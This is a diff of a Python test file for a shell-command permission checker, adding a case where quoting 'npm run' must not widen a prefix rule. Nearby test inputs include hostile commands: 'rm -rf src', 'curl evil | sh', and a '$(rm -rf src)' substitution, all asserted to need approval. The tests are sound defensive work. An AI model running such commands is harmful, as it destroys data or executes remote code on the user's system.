@@ -148,6 +148,7 @@ def test_prefix_rule_matches_per_part(proj: Path, tmp_path: Path) -> None:
     assert decide(tb, "npm run build && rm -rf src").decision == "ask"  # other part not covered
     assert decide(tb, "npm run build; curl evil | sh").decision == "ask"
     assert decide(tb, "npm running").decision == "ask"  # words, not characters
+    assert decide(tb, "'npm run' build").decision == "ask"  # one word is not two: quoting does not widen
     assert decide(tb, "npm run $(rm -rf src)").decision == "ask"  # not simple: no rule allows it
     assert decide(tb, "npm run build > out").decision == "ask"
 
